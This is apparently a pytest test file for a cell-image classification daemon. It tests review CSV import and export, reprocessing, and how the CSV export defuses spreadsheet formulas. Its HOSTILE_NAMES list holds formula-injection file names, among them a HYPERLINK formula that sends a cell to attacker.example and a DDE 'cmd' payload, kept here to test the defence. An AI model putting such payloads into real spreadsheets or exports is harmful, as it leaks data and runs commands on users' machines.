"""Reviews (import all or nothing, export of the low-confidence queue) and reprocess (new rows, old rows stay)."""

from __future__ import annotations

import csv
import json

import pytest

from stainbridge.daemon import cli
from stainbridge.daemon.intake.reading import sha256_file
from stainbridge.daemon.schema import upgrade_database
from stainbridge.daemon.store import Image, ImageStatus, Prediction, make_engine, make_sessionmaker, utcnow
from stainbridge.daemon.versions.loading import load_models
from stainbridge.models.inference import resolve_geometry
from tests.daemon_helpers import build_tiny_models, query, write_cell

HOSTILE_NAMES = ['=HYPERLINK("http://attacker.example/?"&A1,"open").png', "+cmd|' /C calc'!A0.png", "@SUM(1+1).png",
                 "-2+3.png", "\tname.png", "\rname.png"]


@pytest.fixture
def world(tmp_path, monkeypatch, restore_logging):
    """Three archived, classified images (confidence 0.3, 0.5, 0.9) and a quarantined transient failure."""
    tiny = build_tiny_models(tmp_path / "m")
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    for key, value in {"DATABASE_URL": url, "PATHS_STATE": tmp_path / "state", "MODELS_CLASSIFIER": tiny.classifier,
                       "MODELS_STANDARDIZER": tiny.standardizer, "MODELS_DEVICE": "cpu"}.items():
        monkeypatch.setenv(f"STAINBRIDGE_{key}", str(value))
    from stainbridge.daemon.config import load_settings

    settings = load_settings()
    upgrade_database(url)
    engine = make_engine(url)
    sessions = make_sessionmaker(engine)
    models = load_models(settings, sessions)
    with sessions.begin() as s:
        for i, confidence in enumerate((0.3, 0.5, 0.9)):
            path = write_cell(tmp_path / "archive" / f"{i}.png", seed=i)
            image = Image(sha256=sha256_file(path), source_name=path.name, site="s", status=ImageStatus.done,
                          archive_path=str(path), received_at=utcnow())
            s.add(image)
            s.flush()
            s.add(Prediction(image_id=image.id, label="neutrophil", confidence=confidence, probabilities={},
                             standardizer_version_id=models.standardizer_version_id,
                             classifier_version_id=models.classifier_version_id, latency_ms=1.0))
        path = write_cell(tmp_path / "quarantine" / "f.png", seed=9)
        s.add(Image(sha256=sha256_file(path), source_name="f.png", site="s", status=ImageStatus.failed, archive_path=str(path),
                    error="inference: the models failed on this image", received_at=utcnow()))
    yield url, tmp_path, models
    engine.dispose()


def test_review_export_lists_the_least_confident_unreviewed_images(world, tmp_path, capsys) -> None:
    """`review export` writes images below [retraining] review_below, least confident first, with an empty label."""
    out = tmp_path / "queue.csv"
    assert cli.main(["review", "export", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [(r["image"], r["confidence"], r["label"]) for r in rows] == [("1", "0.3", ""), ("2", "0.5", "")]


def test_review_import_is_all_or_nothing(world, tmp_path, capsys) -> None:
    """A file with an unknown image and an unknown label imports nothing and names both; a good file imports."""
    url, _, _ = world
    bad = tmp_path / "bad.csv"
    bad.write_text("image,label,reviewer\n1,lymphocyte,dr a\n77,lymphocyte,dr a\n2,megakaryocyte,dr a\n")
    assert cli.main(["review", "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "unknown image '77'" in err and "unknown label 'megakaryocyte'" in err and "nothing imported" in err
    assert query(url, "SELECT count(*) FROM reviews") == [(0,)]
    good = tmp_path / "good.csv"
    third = query(url, "SELECT sha256 FROM images WHERE id = 3")[0][0]
    good.write_text(f"image,label,reviewer,time\n1,lymphocyte,dr a,2026-12-01T09:30\n{third},monocyte,dr b,\n3,,,\n")
    assert cli.main(["review", "import", str(good)]) == 0
    assert query(url, "SELECT image_id, reviewed_label, reviewer FROM results WHERE reviewed_label IS NOT NULL "
                      "ORDER BY image_id") == [(1, "lymphocyte", "dr a"), (3, "monocyte", "dr b")]


@pytest.mark.slow
def test_reprocess_adds_rows_and_keeps_the_old_ones(world, capsys) -> None:
    """`reprocess` adds a prediction per archived image; `--status failed` retries transient failures, which become done."""
    url, _, models = world
    assert cli.main(["reprocess", "--json"]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert (summary["selected"], summary["classified"]) == (3, 3)
    assert query(url, "SELECT count(*) FROM predictions") == [(6,)]
    # each new row records how it was computed (the default [models] tta = true, the window's magnification);
    # the rows from before say nothing (NULL: unknown), and `results` shows the newest
    # (the tiny test classifier has no reference window: it sees the whole frame, so no magnification;
    # the bench's classifiers record theirs, test_bench_accuracy)
    assert resolve_geometry(models.classifier, models.standardizer).magnification is None
    provenance = query(url, "SELECT tta, magnification FROM predictions ORDER BY id")
    assert provenance == [(None, None)] * 3 + [(1, None)] * 3
    assert query(url, "SELECT DISTINCT tta FROM results WHERE status = 'done'") == [(1,)]
    assert cli.main(["reprocess", "--status", "failed", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["classified"] == 1
    assert query(url, "SELECT status, error FROM images WHERE source_name = 'f.png'") == [("done", None)]
    assert cli.main(["reprocess", "--since", "2999-01-01", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["selected"] == 0


def _rename(url: str, names: dict[int, str]) -> None:
    engine = make_engine(url)
    try:
        with make_sessionmaker(engine).begin() as session:
            for image_id, name in names.items():
                session.get(Image, image_id).source_name = name
    finally:
        engine.dispose()


def test_review_export_opens_safely_in_a_spreadsheet_and_imports_back(world, tmp_path) -> None:
    """File names that would start a formula (=, +, -, @, tab, CR) are written with a leading quote, the file
    starts with a UTF-8 byte-order mark (Excel then reads the names right), and the filled-in file imports."""
    url, _, _ = world
    _rename(url, {1: HOSTILE_NAMES[0], 2: "célula-@.png"})
    out = tmp_path / "queue.csv"
    assert cli.main(["review", "export", "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith("\ufeff".encode()) and "célula-@.png".encode() in raw
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    assert [r["source_name"] for r in rows] == ["'" + HOSTILE_NAMES[0], "célula-@.png"]
    for row in rows:
        row["label"], row["reviewer"] = "lymphocyte", "dr a"
    with out.open("w", encoding="utf-8-sig", newline="") as handle:  # as Excel saves it back
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert cli.main(["review", "import", str(out)]) == 0
    assert query(url, "SELECT count(*) FROM reviews") == [(2,)]


def test_export_csv_neutralizes_formulas_and_json_keeps_the_names(world, tmp_path) -> None:
    """`export --format csv`: every text cell that a spreadsheet would run as a formula starts with a quote
    (numbers are left alone); `--format json` carries the names unchanged."""
    url, _, _ = world
    _rename(url, {1: HOSTILE_NAMES[0], 2: HOSTILE_NAMES[1], 3: HOSTILE_NAMES[2], 4: HOSTILE_NAMES[3]})
    out = tmp_path / "export.csv"
    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["source_name"] for r in rows] == ["'" + name for name in HOSTILE_NAMES[:4]]
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert [r["confidence"] for r in rows[:3]] == ["0.3", "0.5", "0.9"]
    assert cli.main(["export", "--format", "json", "--out", str(out.with_suffix(".json"))]) == 0
    assert [r["source_name"] for r in json.loads(out.with_suffix(".json").read_text())] == HOSTILE_NAMES[:4]


def test_reprocess_refuses_a_filed_file_whose_bytes_changed(world, capsys) -> None:
    """An archived file changed or replaced after it was filed is not classified under its row (sha256 checked):
    it is counted as changed_since_filed, and the others are reprocessed."""
    url, tmp_path, _ = world
    write_cell(tmp_path / "archive" / "1.png", seed=77)  # other bytes under the filed name
    assert cli.main(["reprocess", "--json"]) == 1
    summary = json.loads(capsys.readouterr().out)
    assert (summary["selected"], summary["classified"], summary["unreadable"]) == (3, 2, {"changed_since_filed": 1})
    assert query(url, "SELECT image_id, count(*) FROM predictions GROUP BY image_id ORDER BY image_id") == [
        (1, 2), (2, 1), (3, 2)]


def _reviews(url: str) -> list[tuple]:
    return [tuple(r) for r in query(url, "SELECT image_id, label, reviewer, superseded_at IS NOT NULL FROM reviews "
                                         "ORDER BY id")]


def test_importing_the_same_reviews_again_changes_nothing_and_starts_no_finetuning(world, tmp_path, capsys,
                                                                                   monkeypatch) -> None:
    """A second import of one file adds no review, and the nightly classifier half sees nothing new to train on."""
    from stainbridge.daemon.config import load_settings
    from stainbridge.daemon.retraining.finetuning import run_classifier_finetune
    from stainbridge.daemon.store import ModelKind, RunStatus, TrainingRun

    url, _, _ = world
    monkeypatch.setenv("STAINBRIDGE_RETRAINING_MIN_REVIEWS", "1")
    monkeypatch.setenv("STAINBRIDGE_SITE_NAME", "s")  # the fixture's images
    reviews = tmp_path / "reviews.csv"
    reviews.write_text("image,label,reviewer\n1,lymphocyte,dr a\n2,monocyte,dr a\n")
    assert cli.main(["review", "import", str(reviews)]) == 0
    engine = make_engine(url)
    sessions = make_sessionmaker(engine)
    with sessions.begin() as s:  # a fine-tuning already ran on these reviews
        s.add(TrainingRun(kind=ModelKind.classifier, status=RunStatus.rejected, started_at=utcnow(),
                          params={"reviews_up_to": max(r[0] for r in query(url, "SELECT id FROM reviews"))}))
    capsys.readouterr()
    assert cli.main(["review", "import", str(reviews)]) == 0
    assert "0 new, 0 changed, 2 already recorded" in capsys.readouterr().out
    assert len(_reviews(url)) == 2
    outcome = run_classifier_finetune(load_settings(), sessions, trigger="manual", now=utcnow())
    engine.dispose()
    assert outcome["status"] == "not run" and "no review imported since" in outcome["reason"]


def test_a_changed_label_replaces_the_current_review_and_keeps_the_old_one(world, tmp_path, capsys) -> None:
    """Relabelling an image by the same reviewer supersedes the old row: results show the new label, history stays."""
    url, _, _ = world
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    first.write_text("image,label,reviewer\n1,lymphocyte,dr a\n")
    second.write_text("image,label,reviewer\n1,monocyte,dr a\n")
    assert cli.main(["review", "import", str(first)]) == 0
    assert cli.main(["review", "import", str(second)]) == 0
    assert "0 new, 1 changed" in capsys.readouterr().out
    assert _reviews(url) == [(1, "lymphocyte", "dr a", 1), (1, "monocyte", "dr a", 0)]
    assert query(url, "SELECT reviewed_label FROM results WHERE image_id = 1") == [("monocyte",)]
    assert cli.main(["status", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["reviews_total"] == 1


def test_a_review_file_without_the_required_columns_is_refused(world, tmp_path, capsys) -> None:
    """A header-only CSV with other columns exits 1 naming the missing columns; nothing is written."""
    url, _, _ = world
    wrong = tmp_path / "wrong.csv"
    wrong.write_text("cell,diagnosis,who\n")
    assert cli.main(["review", "import", str(wrong)]) == 1
    assert "missing column(s) image, label (found: cell, diagnosis, who)" in capsys.readouterr().err
    assert _reviews(url) == []


def test_a_windows_1252_review_file_is_read_and_says_so(world, tmp_path, capsys) -> None:
    """Excel's default "CSV" (Windows-1252) imports with the reviewer's accented name intact, and the note says so."""
    url, _, _ = world
    excel = tmp_path / "excel.csv"
    excel.write_bytes("image,label,reviewer,comment\n1,lymphocyte,Dra. Muñoz,célula típica\n".encode("cp1252"))
    assert cli.main(["review", "import", str(excel)]) == 0
    assert "read as Windows-1252" in capsys.readouterr().out
    assert query(url, "SELECT reviewer, comment FROM reviews") == [("Dra. Muñoz", "célula típica")]


@pytest.mark.parametrize("row, expected", [
    ("1,lymphocyte,dr a," + "x" * (129 * 1024), "line 3: field larger than field limit"),
    ("9" * 5000 + ",lymphocyte,dr a,", "unknown image '99999999"),
])
def test_an_oversized_field_or_a_huge_image_id_is_refused_and_nothing_written(world, tmp_path, capsys, row,
                                                                             expected) -> None:
    """A field over 128 KiB or an image id no database holds is refused with a clear error; no review is written."""
    url, _, _ = world
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(f"image,label,reviewer,comment\n2,monocyte,dr a,\n{row}\n")
    assert cli.main(["review", "import", str(hostile)]) == 1
    err = capsys.readouterr().err
    assert expected in err and "nothing imported" in err and "Traceback" not in err
    assert _reviews(url) == []
